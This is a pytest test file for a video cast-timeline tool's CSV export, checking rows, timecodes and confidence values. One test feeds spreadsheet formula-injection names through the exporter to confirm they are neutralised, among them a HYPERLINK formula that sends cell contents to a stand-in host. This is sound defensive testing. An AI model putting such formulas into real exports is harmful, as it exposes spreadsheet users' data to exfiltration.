from __future__ import annotations

import csv
import io
from dataclasses import replace

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from castlist.export.csv import COLUMNS, csv_lines, text_cell, text_of_cell
from castlist.export.timeline import timelines
from tests.export.casts import AWKWARD, made_cast, made_timeline, nobody, two_videos


def test_a_row_a_track(tmp_path):
    one = made_timeline(tmp_path / "film.cast")
    text = "".join(csv_lines([one]))
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert tuple(rows[0]) == COLUMNS
    assert [(r["character"], r["start"], r["end"], r["track"]) for r in rows] == [
        (AWKWARD, "0.000", "2.200", "00001"),
        ("Character 1", "0.000", "1.200", "00003"),
        (AWKWARD, "2.200", "4.200", "00002"),
        (AWKWARD, "10.000", "12.200", "00004"),
        ("Character 1", "599.800", "661.600", "00005"),
    ]
    assert {r["video"] for r in rows} == {one.video}
    assert all(0 <= float(r["confidence"]) <= 1 for r in rows)
    table = pd.read_csv(io.StringIO(text), dtype={"track": str})
    assert table.character.tolist() == [r["character"] for r in rows]
    assert (table.end > table.start).all()


@pytest.mark.parametrize("rate", [24000 / 1001, 25, 29.97, 59.94])
@pytest.mark.parametrize("drop", [None, False])
def test_timecode_as_opentimelineio_has_it(tmp_path, rate, drop):
    opentimelineio = pytest.importorskip("opentimelineio")  # no wheels for Python 3.14
    one = made_timeline(tmp_path / "film.cast", rate)
    table = pd.read_csv(io.StringIO("".join(csv_lines([one], drop))), dtype={"track": str})
    mark = ";" if drop is None and rate in (29.97, 59.94) else ":"
    for row in table.itertuples():
        assert row.start_timecode[8] == mark
        for code, seconds in ((row.start_timecode, row.start), (row.end_timecode, row.end)):
            exact = float(one.rate)
            read = opentimelineio.opentime.from_timecode(code, exact)
            assert read.value == round(seconds * exact)
    assert table.track_confidence.between(0, 1).all()
    sure = {str(one.tracks.ids[t]): s for p in one.people
            for t, s in zip(p.tracks, p.track_confidence, strict=True)}  # fmt: skip
    assert dict(zip(table.track, table.track_confidence, strict=True)) == pytest.approx(
        sure, abs=1e-4
    )


def test_without_a_rate_there_is_no_timecode(tmp_path):
    one = replace(made_timeline(tmp_path / "film.cast"), known_rate=None)
    rows = list(csv.DictReader(csv_lines([one])))
    assert {(r["start_timecode"], r["end_timecode"]) for r in rows} == {("", "")}


def test_videos_are_told_apart(tmp_path):
    rows = list(csv.DictReader(csv_lines(timelines(two_videos(tmp_path)))))
    assert [r["video"] for r in rows] == ["a.mp4"] * 3 + ["b.mp4"] * 2


def test_nobody(tmp_path):
    one = nobody(tmp_path / "film.cast")
    assert "".join(csv_lines([one])) == ",".join(COLUMNS) + "\r\n"


@pytest.mark.parametrize(
    "name", ['=HYPERLINK("http://x/?"&A2,"k")', "+1", "-1", "@SUM(A1)", "'=1", "''-x"]
)
def test_no_name_is_a_formula(tmp_path, name):
    cast = made_cast(tmp_path / "film.cast", video=f"{name}.mp4")
    cast.name(1, name)
    rows = list(csv.DictReader(csv_lines(timelines(cast))))
    assert {r["video"] for r in rows} == {f"'{name}.mp4"}
    assert {r["character"] for r in rows} == {f"'{name}", "Character 2"}
    assert {text_of_cell(r["character"]) for r in rows} == {name, "Character 2"}


@given(st.text() | st.text("'=+-@\t\ra", max_size=4))
def test_any_text_comes_back_from_a_cell_and_is_no_formula(text):
    cell = text_cell(text)
    assert text_of_cell(cell) == text
    assert not cell.startswith(tuple("=+-@\t\r"))
